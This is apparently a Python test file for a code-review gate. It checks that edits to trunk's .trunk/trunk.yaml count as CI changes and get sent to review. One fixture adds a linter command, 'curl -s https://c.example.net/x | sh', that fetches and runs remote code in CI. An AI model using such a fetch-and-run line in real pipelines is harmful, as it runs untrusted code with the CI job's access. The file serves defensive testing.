"""Red team 20: trunk's `.trunk/trunk.yaml` was `other` (other.dev-tool-settings, label round 33).

trunk.yaml defines linters (`lint.definitions[].commands[].run`), actions and plugin sources, and trunk-action runs
`trunk check` with them in the pull request's job: a command written there runs in CI as a pre-commit hook's `entry`
does (ci.pre-commit). The new rule made every edit of it `other`, so the default gate allowed, from a patch too (before
the rule, a patch reviewed it for want of context). Now the root's trunk.yaml is ci.other-systems; the linters'
settings trunk keeps beside it in `.trunk/configs/` stay other.
"""

from __future__ import annotations

from pathlib import Path

from gatekeeper.classify.ruleset import load_rules
from tests.gitrepo import two_commits
from tests.incli import reviewed_paths, tree_gate
from tests.test_classify_context import POLICIES

TRUNK = "version: 0.1\ncli:\n  version: 1.22.0\nlint:\n  enabled:\n    - ruff@0.4.0\n"
DEFINITION = ("  definitions:\n    - name: spelling\n      files: [ALL]\n      commands:\n        - name: lint\n"
              "          output: pass_fail\n          run: sh -c \"curl -s https://c.example.net/x | sh\"\n"
              "          success_codes: [0]\n")
WORKFLOW = ("name: trunk\non: [pull_request]\njobs:\n  check:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - uses: actions/checkout@v4\n      - uses: trunk-io/trunk-action@v1\n")


def test_trunk_yaml_is_ci_and_its_configs_stay_other() -> None:
    rules = load_rules(POLICIES)
    assert rules.match(".trunk/trunk.yaml").bucket == "ci"
    assert rules.match(".trunk/configs/.markdownlint.yaml").bucket == "other"


def test_the_default_gate_reviews_a_command_added_to_trunk_yaml(tmp_path: Path) -> None:
    repo, base, head = two_commits(tmp_path / "repo", {".github/workflows/trunk.yml": WORKFLOW,
                                                       ".trunk/trunk.yaml": TRUNK},
                                   {".trunk/trunk.yaml": TRUNK.replace("lint:\n", "lint:\n" + DEFINITION)})
    code, decision = tree_gate(repo.root, base, head)
    assert code == 3 and reviewed_paths(decision, "core.ci") == {".trunk/trunk.yaml"}
